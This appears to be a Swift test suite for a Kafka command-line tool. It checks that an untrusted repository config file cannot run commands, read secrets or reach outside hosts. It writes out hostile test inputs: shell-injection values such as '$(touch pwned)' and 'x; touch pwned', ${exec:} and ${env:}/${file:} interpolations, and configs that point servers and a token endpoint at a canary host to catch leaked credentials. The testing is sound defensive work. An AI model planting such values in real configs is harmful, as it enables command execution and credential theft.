// A stranger's .kctl.yaml runs, reads, sends and redirects nothing before it is trusted; and what it
// tries would be seen here, since after that it does have effect.

import Testing

struct TrustFormTests {
    /// The user's own file: a context with a login that a stranger would like.
    static let own = """
        current-context: prod
        contexts:
          prod:
            bootstrap-servers: 127.0.0.1:1
            properties:
              client.id: ${exec:touch "$HOME/own-ran"; echo own-secret}

        """

    static func home() throws -> Home {
        let home = try Home(own)
        _ = try home.folder.file("key", "file-secret\n")
        _ = try home.folder.file("own.properties", "client.id=outside-secret\n")
        _ = try home.folder.file("repo/login.properties", "security.protocol=SASL_PLAINTEXT\n")
        _ = try home.folder.file(
            "repo/kerberos.properties",
            "sasl.kerberos.principal=x; touch pwned\n"
        )
        _ = try home.folder.file("repo/reference.properties", "client.id=${env:CANARY_ENV}\n")
        _ = try home.folder.file("repo/harmless.properties", "client.id=x\n")
        let made = try home.run(
            "ln -s ../own.properties link.properties; ln -s .. out; mkfifo pipe.properties",
            in: "repo"
        )
        #expect(made.ending == .exited(0))
        return home
    }

    static func put(_ form: TrustForm, in home: Home, _ canary: Canary) throws {
        _ = try home.folder.file(
            "repo/.kctl.yaml",
            form.text.replacing("CANARY_ENV", with: "THE_VARIABLE")
                .replacing("CANARY", with: canary.address)
                .replacing("THE_VARIABLE", with: "CANARY_ENV")
                .replacing("HOME", with: home.path)
        )
    }

    @Test func theTableIsLongEnough() {
        #expect(TrustForm.all.count >= 100)
    }

    @Test(arguments: 0..<6)
    func nothingPassesUntrusted(_ part: Int) throws {
        let home = try Self.home()
        let canary = try Canary()
        for (index, form) in TrustForm.all.enumerated() where index % 6 == part {
            try Self.put(form, in: home, canary)
            let outcome = try home.run(
                """
                { kctl topics list </dev/null >o1 2>e1; s1=$?
                  printf 'a record\\n' | kctl produce t >o2 2>e2; s2=$?
                  kctl complete topics -- topics describe '' >o3 2>e3; s3=$?
                  echo "$s1 $s2 $s3"; cat o1 o2 o3 e3; echo --; cat e1 e2; }
                """,
                in: "repo",
                environment: ["CANARY_ENV": "env-secret"]
            )
            #expect(outcome.text.hasPrefix("2 2 0\n--\n"), "\(form.name): \(outcome.text)")
            let lines = outcome.lines.dropFirst(2)
            #expect(lines.count == 2, "\(form.name): \(outcome.text)")
            for line in lines {
                #expect(line.contains(".kctl.yaml:") || line.contains(".properties:"))
                #expect(line.contains("this file is not trusted, and "), "\(form.name): \(line)")
                #expect(line.hasSuffix("(kctl config trust \(home.path)/repo)"), "\(line)")
            }
            for secret in ["own-secret", "env-secret", "file-secret", "outside-secret"] {
                #expect(!outcome.text.contains(secret), "\(form.name): \(outcome.text)")
            }
        }
        let left = try home.run("ls own-ran pwned repo/pwned 2>/dev/null | cat")
        #expect(left.output.isEmpty, "\(left.text)")
        let heard = try canary.all()
        #expect(heard.isEmpty, "\(heard)")
    }

    @Test(arguments: [
        (TrustForm.property("client.id", "${env:CANARY_ENV}"), "env-secret"),
        (TrustForm.property("client.id", "${file:HOME/key}"), "file-secret"),
        (TrustForm.property("client.id", "${exec:touch pwned; echo was-run}"), "was-run"),
        (
            TrustForm.context("{bootstrap-servers: CANARY, properties-file: ../own.properties}"),
            "outside-secret"
        ), (TrustForm.context("{bootstrap-servers: CANARY}", name: "prod"), "own-secret"),
        (TrustForm.property("security.protocol", "SSL"), "heard "),
    ])
    func theSameHasEffectOnceTrusted(_ form: TrustForm, _ secret: String) throws {
        let home = try Self.home()
        let canary = try Canary()
        try Self.put(form, in: home, canary)
        let outcome = try home.run(
            "kctl config trust --yes >/dev/null 2>&1 && kctl topics list --timeout 2s",
            in: "repo",
            environment: ["CANARY_ENV": "env-secret"]
        )
        #expect(outcome.ending == .exited(4), "\(outcome.errors)")
        canary.wait(for: secret)
    }

    /// `reader:env-secret` in Base64, as HTTP has it.
    @Test func aTrustedFilesTokenEndpointIsAsked() throws {
        let home = try Self.home()
        let canary = try Canary()
        let form = TrustForm.context(
            """
            {bootstrap-servers: CANARY, properties: {security.protocol: SASL_PLAINTEXT,
                sasl.mechanism: OAUTHBEARER, sasl.oauthbearer.method: oidc,
                sasl.oauthbearer.client.id: reader,
                sasl.oauthbearer.client.secret: '${env:CANARY_ENV}',
                sasl.oauthbearer.token.endpoint.url: 'http://CANARY/token?key=url-secret'}}
            """
        )
        try Self.put(form, in: home, canary)
        let variables = ["CANARY_ENV": "env-secret"]
        let before = try home.run("kctl topics list", in: "repo", environment: variables)
        #expect(before.ending == .exited(2))
        #expect(try canary.all().isEmpty)
        let after = try home.run(
            "kctl config trust --yes >/dev/null 2>&1 && kctl topics list --timeout 2s",
            in: "repo",
            environment: variables
        )
        #expect(after.ending == .exited(5), "\(after.errors)")
        #expect(after.errors.contains("no token from http://\(canary.address)/token: status 401"))
        #expect(!after.errors.contains("url-secret"))
        canary.wait(for: "cmVhZGVyOmVudi1zZWNyZXQ=")
    }

    @Test(arguments: [
        TrustForm.property("sasl.kerberos.kinit.cmd", "touch pwned && true"),
        .property("sasl.kerberos.principal", "x; touch pwned"),
        .property("sasl.kerberos.keytab", "$(touch pwned)"),
        .property("sasl.kerberos.service.name", "`touch pwned`"),
        .context("{bootstrap-servers: CANARY, properties-file: kerberos.properties}"),
        .property(
            "sasl.jaas.config",
            #"Krb5LoginModule required useKeyTab=true keyTab="/tmp/k" principal="x; touch pwned";"#
        ),
    ])
    func aShellIsNotReachedEvenThen(_ form: TrustForm) throws {
        let home = try Self.home()
        let canary = try Canary()
        let text = form.text.replacing(
            "properties:\n",
            with: "properties:\n      security.protocol: SASL_PLAINTEXT\n"
                + "      sasl.mechanism: GSSAPI\n"
        )
        try Self.put(TrustForm(name: form.name, text: text), in: home, canary)
        let outcome = try home.run(
            "kctl config trust --yes >/dev/null 2>&1 && kctl topics list --timeout 2s",
            in: "repo"
        )
        #expect(outcome.ending == .exited(2), "\(outcome.errors)")
        #expect(outcome.errors.contains("sasl.kerberos."), "\(outcome.errors)")
        #expect(try home.run("ls repo/pwned 2>/dev/null | cat").output.isEmpty)
        #expect(try canary.all().isEmpty)
    }
}
